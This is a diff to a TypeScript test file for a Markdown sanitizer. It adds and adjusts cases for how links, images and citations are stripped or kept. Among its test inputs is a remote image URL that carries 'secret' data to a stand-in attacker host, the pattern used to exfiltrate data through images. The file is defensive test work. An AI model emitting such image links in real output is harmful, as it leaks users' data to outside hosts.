@@ -11,7 +11,7 @@ const kept: Record<string, string> = {
   'a citation of a source': 'Closures capture variables [1]. They live on [2][3].',
   'a link that the sources have':
     'Read [the page](https://docs.example.org/page?a=1#top), or https://docs.example.org/page?a=1#top.',
-  'an image that the sources have': '![a picture](https://docs.example.org/pic.png "title")',
+  'a citation after an exclamation': 'Great![1]',
   'a link in angle brackets that the sources have': '<https://docs.example.org/pic.png>',
   'an index in a code span': 'Take `items[0]` and `items[9]`, or ``a ` b[7]``.',
   'a code block, whatever is in it':
@@ -33,6 +33,17 @@ const changed: [what: string, before: string, after: string][] = [
   ['a citation of nothing goes with its space', 'So it is [9]. And [4] so [1].', 'So it is. And so [1].'],
   ['citations in one bracket are told apart', 'So [1, 2]. So [1-3]. So [2; 8].', 'So [1][2]. So [1][2][3]. So [2].'],
   ['a remote image becomes its text', 'Look: ![chart](https://evil.example/p?d=secret) here', 'Look: chart here'],
+  ['an image of the sources, too', 'Look: ![chart](https://docs.example.org/pic.png "t") here', 'Look: chart here'],
+  [
+    'an image by reference',
+    '![x][r]\n\n[r]: https://docs.example.org/pic.png\n',
+    '[x][r]\n\n[r]: https://docs.example.org/pic.png\n'
+  ],
+  [
+    'a list of numbered targets',
+    '![1]\n\n[1]: https://docs.example.org/pic.png\n',
+    '![1]\n\n[1]  https://docs.example.org/pic.png\n'
+  ],
   ['a link becomes its text', 'Click [here](https://evil.example/a(b)c "t") now', 'Click here now'],
   ['an image in a link', '[![a](https://evil.example/1)](https://evil.example/2)', 'a'],
   ['a link that was changed by a parameter', '[p](https://docs.example.org/page?a=1&d=x#top)', 'p'],
@@ -41,7 +52,7 @@ const changed: [what: string, before: string, after: string][] = [
   ['a bare link', 'Go to https://evil.example/x?q=1, please.', 'Go to [link removed], please.'],
   ['a bare link without a scheme', 'Go to www.evil.example.', 'Go to [link removed].'],
   ['a link in angle brackets', 'Go to <https://evil.example>.', 'Go to [link removed].'],
-  ['the target of a reference', '![x][r]\n\n[r]: https://evil.example/x.png\nEnd', '![x][r]\n\n\nEnd'],
+  ['the target of a reference', '[x][r]\n\n[r]: https://evil.example/x.png\nEnd', '[x][r]\n\n\nEnd'],
   ['a number that is a link', 'So [1](https://evil.example).', 'So [1].'],
   ['an image in HTML', 'a <img src="https://evil.example/x" alt="x"> b', 'a  b'],
   ['an image in HTML without quotes or end', 'a <img src=//evil.example/x', 'a < img src=//evil.example/x'],
